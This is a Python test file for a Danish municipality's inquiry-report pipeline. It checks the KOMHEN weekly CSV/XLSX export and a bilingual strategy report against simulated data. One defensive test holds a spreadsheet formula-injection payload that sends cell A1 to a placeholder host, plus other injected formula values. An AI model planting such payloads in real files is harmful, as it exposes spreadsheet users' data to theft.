"""The reports (pipeline/reports/) against the simulator's ground truth, read back as a person would.

Two simulated weeks and a day (Monday 16 March to Monday 30 March 2026, summer time starting
on Sunday the 29th) of every file source and the HTTP ingest are parsed by the real connectors
and inserted into one embedded chDB store for the module, as in test_kpis.py. The KOMHEN
export of ISO week 13 must equal ground truth cell by cell, read back from the CSV and from
the XLSX; the strategy report must draw a chart exactly where its KPI has data and say so in
words where it has none. IMAP needs Dovecot, so it is not ingested here and is left out of
every expectation (`SOURCES`).
"""

from __future__ import annotations

import csv
import re
from collections import Counter, defaultdict
from collections.abc import Iterator
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from matplotlib.figure import Figure
from matplotlib.text import Text
from openpyxl import load_workbook
from PIL import Image

from pipeline.ground.messages import CHANNEL_DA, CHANNEL_NAMES, CHANNELS, WEEKDAYS
from pipeline.ground.steering import Baseline, Steering, load_steering
from pipeline.measures.baselines import BaselineError
from pipeline.measures.iso_week import IsoWeek, IsoWeekError
from pipeline.measures.kpi_output import number
from pipeline.reports import charts as drawing
from pipeline.reports.komhen import COLUMNS, CSV_COLUMNS, PARAMETERS, NoInquiries, read_komhen_week
from pipeline.reports.labels import DIRECTION_DA, REQUESTER_TYPES
from pipeline.reports.strategy import strategy_report
from pipeline.reports.workbook import DATA_SHEET, NOTES_SHEET, TABLE_SHEET, write_komhen
from pipeline.simulated.municipality import simulate
from pipeline.simulated.truth import GroundTruth
from pipeline.store.clickhouse import EmbeddedStore, init_schema
from schemas import InquiryEvent
from tests.pipeline.measures.inquiry_outcomes import outcomes
from tests.pipeline.simulated.simulated_files import FILE_SOURCES, simulated_events
from tests.pipeline.test_cli import isolated, run
from tests.stores import insert_events

REPO = Path(__file__).resolve().parents[3]
TZ = ZoneInfo("Europe/Copenhagen")
START = date(2026, 3, 16)  # Monday of ISO week 12; the run ends on Monday 30 March (week 14)
WEEK = IsoWeek(2026, 13)  # 23-29 March: whole days on both sides of it are stored too
SOURCES = (*FILE_SOURCES, "http")
DB = "reports"
Cell = tuple[str, str, str, str]  # task, department, channel, direction


@pytest.fixture(scope="module")
def simulated(tmp_path_factory: pytest.TempPathFactory) -> tuple[GroundTruth, list[InquiryEvent]]:
    out = tmp_path_factory.mktemp("reports") / "simulated"
    truth = simulate(out, days=15, seed=4, start=START)
    return truth, simulated_events(out)


@pytest.fixture(scope="module")
def steering() -> Steering:
    return load_steering(REPO / "deploy" / "steering.yaml")


@pytest.fixture(scope="module")
def store(simulated: tuple[GroundTruth, list[InquiryEvent]], steering: Steering,
          tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedStore]:
    """The module's one chDB store: chDB opens one data directory per process at a time."""
    _, events = simulated
    opened = EmbeddedStore(tmp_path_factory.mktemp("reports-store") / "chdb", DB)
    try:
        init_schema(opened, steering)
        insert_events(opened, events)
        yield opened
    finally:
        opened.close()


def in_week(day: date, week: IsoWeek = WEEK) -> bool:
    return week.monday <= day <= week.sunday


def expected_cells(truth: GroundTruth, week: IsoWeek = WEEK) -> Counter[Cell]:
    """KOMHEN's count from ground truth: arrivals in both directions per task x department x
    channel x direction, web page views left out, for the sources ingested here."""
    cells: Counter[Cell] = Counter()
    for row in truth.events:
        if row.source in SOURCES and row.stage == "arrived" and row.channel != "web" and in_week(row.day, week):
            cells[(row.task, row.department, row.channel, row.direction)] += row.count
    return cells


def expected_parameters(events: list[InquiryEvent], week: IsoWeek = WEEK) -> dict[Cell, Counter[str]]:
    """The counting week worked out per inquiry in Python (tests/pipeline/measures/inquiry_outcomes.py)
    from the very events inserted: inquiries are the inquiries not abandoned, abandoned calls
    and walk-outs apart, straksafklaring of the served inbound, web-first and requesters of the
    inquiries."""
    out: defaultdict[Cell, Counter[str]] = defaultdict(Counter)
    for o in outcomes(events, week.monday, week.sunday):
        a = o.arrival
        cell = out[(a.task, a.department, a.channel.value, a.direction.value)]
        if o.abandoned:
            cell["abandoned"] += 1
            continue
        cell["inquiries"] += 1
        if o.inbound and o.served:
            cell["resolution_known"] += o.kind in ("registered", "inferred")
            cell["resolved_first_contact"] += o.kind in ("registered", "inferred") and o.resolved
            cell["resolution_pending"] += o.kind == "pending"
        cell["web_first_known"] += a.visited_web_first is not None
        cell["web_first"] += bool(a.visited_web_first)
        cell[f"requesters_{a.requester_type.value}"] += 1
    return out


@pytest.fixture(scope="module")
def komhen_files(store: EmbeddedStore, steering: Steering, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    table = read_komhen_week(store.query, DB, WEEK, timezone=steering.timezone)
    return write_komhen(table, tmp_path_factory.mktemp("komhen"))


def read_csv(path: Path) -> dict[Cell, dict[str, object]]:
    """The CSV as a data team reads it: its Danish headings back to the codes, per cell."""
    codes = {heading: code for code, heading in COLUMNS.items()}
    directions = {name: code for code, name in DIRECTION_DA.items()}
    with open(path, encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        rows = [{codes[heading]: value for heading, value in row.items()} for row in reader]
    out = {}
    for r in rows:
        task = "unclassified" if r["task"] == "uklassificeret" else r["task"]
        out[(task, r["department"], r["channel"], directions[r["direction"]])] = {
            name: (int(value) if name in PARAMETERS or name == "inquiries" else value) for name, value in r.items()}
    return out


def test_komhen_files_are_named_for_municipality_and_week(komhen_files: list[Path],
                                                         simulated: tuple[GroundTruth, list[InquiryEvent]]) -> None:
    truth, _ = simulated
    assert [p.name for p in komhen_files] == [f"komhen-{truth.municipality}-2026-W13.csv",
                                              f"komhen-{truth.municipality}-2026-W13.xlsx"]


def test_komhen_csv_equals_ground_truth_cell_by_cell(komhen_files: list[Path],
                                                     simulated: tuple[GroundTruth, list[InquiryEvent]]) -> None:
    """Every arrival of ground truth is in its cell, as an inquiry or, for a call or ticket given
    up, as abandoned: never both, never neither."""
    truth, _ = simulated
    rows = read_csv(komhen_files[0])
    got = {cell: int(r["inquiries"]) + int(r["abandoned"]) for cell, r in rows.items()}  # type: ignore[call-overload]
    assert got == dict(expected_cells(truth))
    assert {(c, d) for _, _, c, d in got} >= {("email", "outbound"), ("digital_post", "outbound"), ("phone", "inbound")}
    assert all(r["iso_week"] == "2026-W13" and r["municipality"] == truth.municipality for r in rows.values())
    assert all(r["channel_name"] == CHANNEL_DA[channel] for (_, _, channel, _), r in rows.items())
    assert "web" not in {channel for _, _, channel, _ in rows}  # page views are not inquiries
    abandoned = Counter({channel: int(r["abandoned"]) for (_, _, channel, _), r in rows.items()})  # type: ignore[call-overload]
    assert set(+abandoned) == {"phone", "walk_in"}  # abandoned calls and walk-outs, nothing else


def test_komhen_csv_carries_the_registration_parameters(komhen_files: list[Path],
                                                        simulated: tuple[GroundTruth, list[InquiryEvent]]) -> None:
    _, events = simulated
    rows = read_csv(komhen_files[0])
    expected = expected_parameters(events)
    assert set(rows) == set(expected)
    for key, r in rows.items():
        assert {name: r[name] for name in ("inquiries", *PARAMETERS)} == {
            name: expected[key][name] for name in ("inquiries", *PARAMETERS)}, key
        assert sum(r[f"requesters_{kind}"] for kind in REQUESTER_TYPES) == r["inquiries"]  # type: ignore[misc]
    total: Counter[str] = Counter()
    for (_, _, channel, _), r in rows.items():
        total[f"{channel} known"] += r["resolution_known"]  # type: ignore[assignment]
        total[f"{channel} web first known"] += r["web_first_known"]  # type: ignore[assignment]
        total["pending"] += r["resolution_pending"]  # type: ignore[assignment]
        total["business"] += r["requesters_business"]  # type: ignore[assignment]
    # Not vacuous: the phone queue's callers are followed up, the case-system export tells web first,
    # and the week's last days are still pending (the store ends the Monday after).
    assert total["phone known"] > 0 and total["letter web first known"] > 0
    assert total["pending"] > 0 and total["business"] > 0


def read_table_sheet(path: Path) -> tuple[dict[tuple[str, str, str], int], dict[str, list[object]], list[object],
                                          object]:
    """The hand-in sheet as a person reads it: find the heading, carry merged channel names over
    their two columns, read one row per task down to 'I alt', and the rows apart under it."""
    sheet = load_workbook(path)[TABLE_SHEET]
    heading = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "KLE-nr.")
    names, channel = [], None
    for c in range(1, sheet.max_column + 1):
        channel = sheet.cell(heading, c).value or channel
        names.append((channel, sheet.cell(heading + 1, c).value))
    cells: dict[tuple[str, str, str], int] = {}
    rows: dict[str, list[object]] = {}
    r = heading + 2
    while r <= sheet.max_row:
        task = sheet.cell(r, 1).value
        if task is not None:
            rows[str(task)] = [sheet.cell(r, c).value for c in range(4, sheet.max_column + 1)]
            for c, (name, direction) in enumerate(names, start=1):
                if name in CHANNEL_DA.values() and task != "I alt":
                    cells[(str(task), name, direction)] = sheet.cell(r, c).value
        r += 1
    total_row = rows.pop("I alt")
    return cells, rows, total_row, sheet


def test_komhen_xlsx_hand_in_sheet_equals_ground_truth(komhen_files: list[Path],
                                                       simulated: tuple[GroundTruth, list[InquiryEvent]]) -> None:
    """Answered and served inquiries per task x channel x direction, the unclassified apart under
    a total that leaves them out, abandoned calls and walk-outs in columns of their own, and the
    straksafklaring and web-first shares of each task where they are known."""
    _, events = simulated
    expected = expected_parameters(events)
    cells, rows, total_row, sheet = read_table_sheet(komhen_files[1])
    per_task: Counter[tuple[str, str, str]] = Counter()
    for (task, _, channel, direction), counts in expected.items():
        name = "uklassificeret" if task == "unclassified" else task
        per_task[(name, CHANNEL_DA[channel], DIRECTION_DA[direction])] += counts["inquiries"]
    tasks = sorted({task for task, _, _ in per_task if task != "uklassificeret"}) + ["uklassificeret"]
    assert list(dict.fromkeys((name, d) for _, name, d in cells)) == [
        (CHANNEL_DA[c], DIRECTION_DA[d]) for c in CHANNELS for d in ("inbound", "outbound")]
    assert list(rows) == tasks
    assert cells == {key: per_task.get(key, 0) for key in cells}
    width = 2 * len(CHANNELS)
    classified = {key: n for key, n in per_task.items() if key[0] != "uklassificeret"}
    assert total_row[width + 2] == sum(classified.values())  # I alt leaves the unclassified out
    assert rows["uklassificeret"][width + 2] == sum(n for k, n in per_task.items() if k[0] == "uklassificeret") > 0
    assert sheet.cell(3, 1).value.startswith("OBS: ") and "uklassificerede og ikke med i I alt" in sheet.cell(3, 1).value

    def summed(task: str | None, name: str, channel: str | None = None) -> int:
        return sum(c[name] for (t, _, ch, _), c in expected.items()
                   if (t == task if task else t != "unclassified") and (channel is None or ch == channel))

    for task, values in [*rows.items(), (None, total_row)]:
        code = "unclassified" if task == "uklassificeret" else task
        abandoned_phone, walk_outs, resolution, web_first = values[width + 3:width + 7]
        assert (abandoned_phone, walk_outs) == (summed(code, "abandoned", "phone"), summed(code, "abandoned", "walk_in"))
        known, resolved = summed(code, "resolution_known"), summed(code, "resolved_first_contact")
        pending = summed(code, "resolution_pending")
        assert resolution == (pytest.approx(resolved / known) if known else "afventer" if pending else None), task
        known, first = summed(code, "web_first_known"), summed(code, "web_first")
        assert web_first == (pytest.approx(first / known) if known else None), task
    assert total_row[width + 3] > 0 and total_row[width + 4] > 0 and 0 < total_row[width + 5] < 1
    heading = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "KLE-nr.")
    assert [sheet.cell(heading, c).value for c in range(width + 7, width + 11)] == [
        "Opgivne opkald", "Gået før tur", "Straksafklaring", "Hjemmeside først"]
    assert sheet.freeze_panes == f"D{heading + 2}"
    assert sheet.cell(heading + 2, 4).number_format == "#,##0"
    assert sheet.column_dimensions["B"].width >= 20


def test_a_komhen_task_package_names_its_tasks_without_inquiries(store: EmbeddedStore, steering: Steering,
                                                                 tmp_path: Path) -> None:
    table = read_komhen_week(store.query, DB, WEEK, timezone=steering.timezone, package=("85.02.00", "99.98.97"))
    assert table.missing_tasks() == ["99.98.97"]
    assert any("1 opgave(r) i kommunens KOMHEN-pakke har ingen henvendelser i ugen: 99.98.97" in w
               for w in table.warnings())
    cells, rows, total_row, sheet = read_table_sheet(write_komhen(table, tmp_path)[1])
    assert rows["99.98.97"][:2 * len(CHANNELS) + 3] == [0] * (2 * len(CHANNELS) + 3)  # a row of zeros, in KLE order
    assert list(rows).index("99.98.97") == len(rows) - 2  # last of the KLE codes, before the unclassified
    without = read_komhen_week(store.query, DB, WEEK, timezone=steering.timezone)
    assert any("Ingen KOMHEN-opgavepakke i styringsfilen" in w for w in without.warnings())


def test_komhen_xlsx_data_sheet_is_the_csv_and_page_views_stay_apart(
        komhen_files: list[Path], simulated: tuple[GroundTruth, list[InquiryEvent]]) -> None:
    truth, _ = simulated
    workbook = load_workbook(komhen_files[1])
    data = [[("" if v is None else str(v)) for v in row] for row in workbook[DATA_SHEET].iter_rows(values_only=True)]
    with open(komhen_files[0], encoding="utf-8-sig", newline="") as fh:
        assert data == list(csv.reader(fh))
    notes = workbook[NOTES_SHEET]
    heading = next(r for r in range(1, notes.max_row + 1) if notes.cell(r, 1).value == "KLE-nr.")
    views = {notes.cell(r, 1).value: notes.cell(r, 3).value for r in range(heading + 1, notes.max_row + 1)}
    expected: Counter[str] = Counter()
    for row in truth.events:
        if row.source in SOURCES and row.channel == "web" and row.stage == "arrived" and in_week(row.day):
            expected[row.task] += row.count
    assert views == dict(expected) and views


def test_komhen_of_a_week_without_inquiries_is_refused(store: EmbeddedStore) -> None:
    with pytest.raises(NoInquiries, match="no inquiries stored for 2026-W02"):
        read_komhen_week(store.query, DB, IsoWeek(2026, 2))
    with pytest.raises(NoInquiries, match="municipality 999"):
        read_komhen_week(store.query, DB, WEEK, municipality="999")


def test_iso_weeks_run_monday_to_sunday_and_bad_weeks_are_named() -> None:
    assert (IsoWeek.parse("2026-W12").monday, IsoWeek.parse("2026W12").sunday) == (date(2026, 3, 16),
                                                                                    date(2026, 3, 22))
    assert IsoWeek.parse("2026-W53").sunday == date(2027, 1, 3)  # 2026 has 53 ISO weeks
    assert str(IsoWeek.parse("2026-w1")) == "2026-W01"
    for bad, message in (("2026-12", "not an ISO week"), ("2025-W53", "has no ISO week 53")):
        with pytest.raises(IsoWeekError, match=message):
            IsoWeek.parse(bad)


# --------------------------------------------------------------------------- strategy report


class _Page(HTMLParser):
    """Sections (id -> data-state, text, images) of the report page."""

    def __init__(self) -> None:
        super().__init__()
        self.sections: dict[str, dict[str, object]] = {}
        self.images: list[str] = []
        self._section: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "section":
            self._section = values["id"]
            self.sections[values["id"] or ""] = {"state": values["data-state"], "text": "", "images": []}
        if tag == "img":
            self.images.append(values["src"] or "")
            if self._section:
                self.sections[self._section]["images"].append(values["src"])  # type: ignore[union-attr]

    def handle_endtag(self, tag: str) -> None:
        if tag == "section":
            self._section = None

    def handle_data(self, data: str) -> None:
        if self._section:
            self.sections[self._section]["text"] += data  # type: ignore[operator]


def read_page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def assert_valid_pngs(out: Path, page: _Page) -> None:
    """Every PNG in the directory is referenced, every reference exists, and each is a real,
    non-blank image of a size a report page can show."""
    assert sorted(page.images) == sorted(p.name for p in out.glob("*.png"))
    for name in page.images:
        with Image.open(out / name) as image:
            assert image.format == "PNG", name
            width, height = image.size
            assert 600 <= width <= 2000 and 250 <= height <= 2500, (name, image.size)
            colours = image.convert("RGB").getcolors(maxcolors=1 << 16)
            assert colours is None or len(colours) > 20, name  # more than a frame and a title


def arrivals(truth: GroundTruth, first: date, last: date) -> Counter[str]:
    """Inbound inquiries per channel in [first, last] from ground truth."""
    out: Counter[str] = Counter()
    for row in truth.events:
        if (row.source in SOURCES and row.stage == "arrived" and row.direction == "inbound" and row.channel != "web"
                and first <= row.day <= last):
            out[row.channel] += row.count
    return out


def test_strategy_report_draws_a_chart_for_every_kpi_with_data(
        store: EmbeddedStore, steering: Steering, simulated: tuple[GroundTruth, list[InquiryEvent]],
        tmp_path: Path) -> None:
    truth, _ = simulated
    steering = steering.model_copy(update={"baselines": {"week_before": Baseline(kind="rolling_weeks", weeks=1)}})
    report = strategy_report(store.query, DB, steering, WEEK.monday, WEEK.sunday, tmp_path)
    page = read_page(report.path)
    assert_valid_pngs(tmp_path, page)
    now = arrivals(truth, WEEK.monday, WEEK.sunday)
    before = arrivals(truth, WEEK.monday - timedelta(days=7), WEEK.monday - timedelta(days=1))
    assert now and before and now["self_service"]
    demand = [f"demand_{c}.png" for c in CHANNELS if c in steering.opening_hours and now[c]]
    assert len(demand) == 3  # phone, walk-in and chat all have opening hours and calls, visits, chats
    charts = {key: section["images"] for key, section in page.sections.items()}
    assert charts == {"channel-mix": ["channel_mix.png"], "channel-shift": ["channel_shift.png"],
                      "self-service": ["self_service_rate.png"], "cost": ["cost.png"], "targets": ["targets.png"],
                      "demand": demand}
    assert all(section["state"] == "chart" for section in page.sections.values())
    # The numbers in words are ground truth's, written the Danish way: inquiries per channel in the mix table.
    mix = str(page.sections["channel-mix"]["text"])
    assert f"{number(sum(now.values()), 'da')} indgående henvendelser" in mix
    for channel, n in now.items():
        assert number(n, "da") in mix, channel
    assert "realiserede gevinst er" in str(page.sections["cost"]["text"])


def test_strategy_report_says_so_instead_of_drawing_empty_charts(store: EmbeddedStore, steering: Steering,
                                                                tmp_path: Path) -> None:
    report = strategy_report(store.query, DB, steering, date(2025, 3, 2), date(2025, 3, 29), tmp_path)
    page = read_page(report.path)
    assert page.images == [] and list(tmp_path.glob("*.png")) == []
    assert all(section["state"] == "text" for section in page.sections.values())
    for key in ("channel-mix", "channel-shift", "self-service", "cost", "demand"):
        text = str(page.sections[key]["text"])
        assert "Der er ingen henvendelser gemt for 2. mar. 2025 – 29. mar. 2025" in text, key
    assert "Intet mål har data" in str(page.sections["targets"]["text"])


def test_strategy_report_with_an_empty_baseline_compares_nothing_but_shows_the_period(
        store: EmbeddedStore, steering: Steering, tmp_path: Path) -> None:
    # counting_week_2026 (9-15 March) is before the simulated data begins.
    report = strategy_report(store.query, DB, steering, WEEK.monday, WEEK.sunday, tmp_path,
                             baseline="counting_week_2026")
    page = read_page(report.path)
    assert_valid_pngs(tmp_path, page)
    assert page.sections["channel-shift"]["state"] == "text"
    assert "Der er ingen henvendelser gemt for basis 'counting_week_2026'" in str(
        page.sections["channel-shift"]["text"])
    assert page.sections["cost"]["images"] == ["cost.png"]
    assert "ingen realiseret gevinst at vise" in str(page.sections["cost"]["text"])
    with pytest.raises(BaselineError, match="no baseline named 'nope'"):
        strategy_report(store.query, DB, steering, WEEK.monday, WEEK.sunday, tmp_path, baseline="nope")


NOT_A_NUMBER = re.compile(r"\b(nan|NaN|inf|Infinity|None)\b")
# English words of the report and its charts that no Danish text of it holds ('time' and 'week' do: 'travleste
# time', the baseline named 'week_before').
ENGLISH = ("inquiries", "baseline", "channel", "share", "self-service", "on track", "per open day", "dkk", "tasks",
           "local", "opening", "cost", "gain", "actual", "weekday", "hour", "measured", "value")


def test_strategy_report_is_danish_first_and_english_when_asked(
        store: EmbeddedStore, steering: Steering, simulated: tuple[GroundTruth, list[InquiryEvent]],
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same week in both languages: every section, chart and number in the reader's language.
    Target names and descriptions are the steering file's own words and stay as written, so the
    targets section and chart are left out of the check for English words."""
    truth, _ = simulated
    drawn: dict[Path, str] = {}  # PNG -> every text on it, as drawn (tick labels are only set by drawing)
    save = drawing._save

    def recording(figure: Figure, path: Path) -> Path:
        saved = save(figure, path)
        drawn[path] = "\n".join(t.get_text() for t in figure.findobj(Text) if t.get_text().strip())
        return saved

    monkeypatch.setattr(drawing, "_save", recording)
    steering = steering.model_copy(update={"baselines": {"week_before": Baseline(kind="rolling_weeks", weeks=1)}})
    reports = {language: strategy_report(store.query, DB, steering, WEEK.monday, WEEK.sunday, tmp_path / language,
                                         language=language) for language in ("da", "en")}
    pages = {language: read_page(report.path) for language, report in reports.items()}
    texts = {language: report.path.read_text(encoding="utf-8") for language, report in reports.items()}
    assert '<html lang="da">' in texts["da"] and '<html lang="en">' in texts["en"]
    da, en = ({key: str(section["text"]) for key, section in pages[language].sections.items()} for language in pages)
    assert list(da) == list(en) == ["channel-mix", "channel-shift", "self-service", "cost", "targets", "demand"]
    for danish, english in (("Kanalfordeling", "Channel mix"), ("henvendelser", "inquiries"),
                            ("Kanalskift", "Channel shift"), ("Selvbetjeningsgrad", "Self-service rate"),
                            ("Omkostning", "Cost"), ("realiserede gevinst", "realised gain"),
                            ("Efterspørgsel", "Demand"), ("åbningstid", "opening hours"), ("på sporet", "on track"),
                            (" pp", " pp"), (" kr.", "DKK ")):
        assert danish in texts["da"] and english in texts["en"], (danish, english)
        if danish.strip() != english.strip():
            assert danish not in texts["en"], danish
    # No English heading is left in the Danish page: the titles are read from the English one.
    english_titles = [str(s.title) for s in reports["en"].sections] + ["Channel strategy report"]
    assert all(title not in texts["da"] for title in english_titles), english_titles
    assert all(s.title not in texts["en"] for s in reports["da"].sections)
    # No English word outside what the municipality wrote itself (the targets' names and descriptions).
    for key, text in da.items():
        if key != "targets":
            assert [w for w in ENGLISH if w in text.casefold()] == [], key
    alts = re.findall(r'alt="([^"]*)"', texts["da"])
    assert alts and all(w not in alt.casefold() for alt in alts for w in ENGLISH), alts
    # Channel names, weekdays and numbers the way each language writes them.
    for code in ("walk_in", "phone", "self_service", "letter"):
        danish, english = CHANNEL_NAMES[code]
        assert danish in da["channel-mix"] and english not in da["channel-mix"], code
        assert english in en["channel-mix"] and danish not in en["channel-mix"], code
    danish_days, english_days = ("|".join(names) for names in zip(*WEEKDAYS))
    assert re.search(rf"travleste time ({danish_days}) kl\. \d\d:00", da["demand"]), da["demand"]
    assert re.search(rf"busiest hour ({english_days}) \d\d:00", en["demand"]), en["demand"]
    total = sum(arrivals(truth, WEEK.monday, WEEK.sunday).values())
    assert total >= 1000  # a thousands separator to tell the languages apart
    assert f"{total:,}".replace(",", ".") in da["channel-mix"] and f"{total:,}" in en["channel-mix"]
    assert re.search(r"\d,\d %", da["channel-mix"]) and re.search(r"\d\.\d%", en["channel-mix"])
    for language, text in texts.items():
        found = NOT_A_NUMBER.search(text)
        assert found is None, (language, text[max(0, found.start() - 200):found.end() + 80])
    # The charts speak the page's language: axis labels, legends, units, channel and weekday names.
    assert reports["da"].pngs == reports["en"].pngs and len(reports["da"].pngs) == 8
    assert set(drawn) == {tmp_path / language / name for language in texts for name in reports["da"].pngs}
    for name in reports["da"].pngs:
        danish, english = drawn[tmp_path / "da" / name], drawn[tmp_path / "en" / name]
        if name != "targets.png":
            assert [w for w in ENGLISH if w in danish.casefold()] == [], (name, danish)
        assert not re.search(r"\d\.\d(?!\d)|\d%|\bDKK\b|\bon track\b|\bMon\b", danish), (name, danish)
        assert re.search(r"\d %|kr\.|på sporet|\bman\b|henvendelser|procentpoint", danish, re.IGNORECASE), name
        assert "henvendelser" not in english.casefold() and "kr." not in english, (name, english)
    assert "Andel af henvendelser" in drawn[tmp_path / "da" / "channel_mix.png"]
    assert "Share of inquiries" in drawn[tmp_path / "en" / "channel_mix.png"]
    assert "på sporet" in drawn[tmp_path / "da" / "targets.png"]
    assert "on track" in drawn[tmp_path / "en" / "targets.png"]


def test_report_komhen_on_an_empty_store_says_so_and_writes_nothing(tmp_path: Path) -> None:
    settings = isolated(tmp_path)
    assert run(settings, "store", "init").returncode == 0
    out = tmp_path / "out"
    done = run(settings, "report", "komhen", "--week", "2026-W12", "--out", str(out))
    assert done.returncode == 1, done.stderr
    assert "no inquiries stored for 2026-W12 (2026-03-16 to 2026-03-22" in " ".join(done.stderr.split())
    assert "nothing written" in " ".join(done.stderr.split())
    assert not out.exists() or not any(out.iterdir())
    done = run(settings, "report", "komhen", "--week", "2026-12", "--out", str(out))
    assert done.returncode == 2 and "not an ISO week like 2026-W12" in done.stderr


def test_report_strategy_on_an_empty_store_writes_a_page_without_charts(tmp_path: Path) -> None:
    settings = isolated(tmp_path)
    assert run(settings, "store", "init").returncode == 0
    out = tmp_path / "strategy"
    done = run(settings, "report", "strategy", "--from", "2026-11-01", "--to", "2026-11-29", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["index.html"]
    assert "med 0 diagram(mer); kun i ord" in " ".join(done.stderr.split())  # rich wraps long paths
    page = read_page(out / "index.html")
    assert len(page.sections) == 6 and all(section["state"] == "text" for section in page.sections.values())
    assert '<html lang="da">' in (out / "index.html").read_text(encoding="utf-8")  # Danish unless asked


def test_a_komhen_export_imported_as_a_baseline_gives_every_cell_back(
        komhen_files: list[Path], store: EmbeddedStore, steering: Steering, tmp_path: Path) -> None:
    """`report komhen` then `baseline import`: the CSV, the workbook and the workbook's hand-in
    sheet alone each give back every task x channel x direction count of the week, and the
    store compares with exactly those."""
    from pipeline.measures.baseline_files import read_baseline_file
    from pipeline.measures.baselines import store_baseline

    table = read_komhen_week(store.query, DB, WEEK, timezone=steering.timezone)
    expected: Counter[tuple[str, str, str]] = Counter()
    for cell in table.cells:
        expected[(cell.task, cell.channel, cell.direction)] += cell.inquiries
    expected = +expected  # a cell of abandoned calls only has no inquiry to compare with
    csv_file, xlsx_file = komhen_files
    hand_in_only = tmp_path / "hand_in.xlsx"
    book = load_workbook(xlsx_file)
    del book[DATA_SHEET]
    book.save(hand_in_only)
    for path in (csv_file, xlsx_file, hand_in_only):
        counts = read_baseline_file(path)
        assert counts.counts == dict(expected), path.name
    assert read_baseline_file(csv_file).period == (WEEK.monday, WEEK.sunday)
    store_baseline(store, "round_trip", read_baseline_file(csv_file), str(csv_file), days=7)
    stored = {(r[0], r[1], r[2]): r[3] for r in store.query(
        f"SELECT task, channel, direction, inquiries FROM {DB}.baseline_latest WHERE name = 'round_trip'").rows}
    assert stored == dict(expected)


def test_a_label_from_a_source_cannot_run_as_a_formula_in_the_komhen_files(tmp_path: Path) -> None:
    """A case system's department or task label of '=HYPERLINK(...)' is text in the CSV and the
    workbook, never a formula Excel runs when the tovholder opens the file."""
    from pipeline.reports.komhen import KomhenCell, KomhenWeek

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    control = KomhenCell(task="85.02.00", task_label="Flytning\x01\x1b", department="Nord;=1+1", channel="email",
                         direction="inbound", inquiries=1, abandoned=0, resolution_known=0, resolved=0,
                         resolution_pending=0, web_first_known=0, web_first=0, requesters={"citizen": 1})
    cell = KomhenCell(task="05.13.00", task_label=evil, department="@SUM(1+1)", channel="phone", direction="inbound",
                      inquiries=3, abandoned=0, resolution_known=0, resolved=0, resolution_pending=0,
                      web_first_known=0, web_first=0, requesters={"citizen": 3})
    csv_file, xlsx_file = write_komhen(KomhenWeek(WEEK, "751", [cell, control], []), tmp_path)
    with open(csv_file, encoding="utf-8-sig", newline="") as fh:
        row, other = list(csv.DictReader(fh))
    assert (row["Opgave"], row["Afdeling"]) == ("'" + evil, "'@SUM(1+1)")
    assert other["Opgave"] == "Flytning"  # control characters, which no sheet may hold, are dropped
    with open(csv_file, encoding="utf-8-sig", newline="") as fh:  # Danish Excel splits on ';' outside quotes
        assert not [field for line in csv.reader(fh, delimiter=";") for field in line if field.startswith("=")]
    book = load_workbook(xlsx_file)
    cells = [c for sheet in book for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(c.value == "'" + evil for c in cells)


def test_a_week_compared_with_its_own_komhen_export_has_no_shift_and_no_gain(
        komhen_files: list[Path], store: EmbeddedStore, steering: Steering) -> None:
    """KOMHEN counts inquiries handled (no abandoned calls or walk-outs); the live period is
    counted the same way against such a count, so a week against its own sheet shifts nothing
    and gains nothing: otherwise every import would show the abandonment rate as a shift."""
    from pipeline.measures.baseline_files import read_baseline_file
    from pipeline.measures.baselines import resolve_baseline, store_baseline
    from pipeline.measures.kpis import run_kpi

    store_baseline(store, "same_week", read_baseline_file(komhen_files[0]), komhen_files[0].name, days=7)
    baseline = resolve_baseline(steering, store.query, DB, "same_week", WEEK.monday, WEEK.sunday)
    shifts = run_kpi(store.query, DB, "channel_shift", from_day=WEEK.monday, to_day=WEEK.sunday,
                     **baseline.arguments()).as_dicts()
    assert shifts and all(r["shift"] is not None and abs(r["shift"]) < 1e-9 for r in shifts)
    gain = {(r["task"], r["channel"]): r for r in run_kpi(
        store.query, DB, "realised_gain", from_day=WEEK.monday, to_day=WEEK.sunday, **baseline.arguments()).as_dicts()}
    assert abs(gain[("*", "*")]["gain_dkk"]) < 1e-6 and gain[("*", "*")]["uncompared_inquiries"] == 0
    phone = [r for r in shifts if r["task"] == "*" and r["channel"] == "phone"][0]
    abandoned = sum(c.abandoned for c in read_komhen_week(store.query, DB, WEEK).cells
                    if c.channel == "phone" and c.direction == "inbound")
    assert abandoned > 0 and phone["inquiries"] == phone["baseline_inquiries"]  # not vacuous: calls were abandoned


def test_a_label_with_dollar_signs_is_drawn_as_text(tmp_path: Path) -> None:
    """matplotlib reads '$...$' as maths: a task label '$\\foo{$' from the mapping stopped the report."""
    from pipeline.reports import charts

    path = charts.self_service_rate([("05.13.00 $\\foo{$ Pas", 0.25, 40)], 0.2, tmp_path / "rate.png", "$x$")
    assert path.read_bytes().startswith(b"\x89PNG")
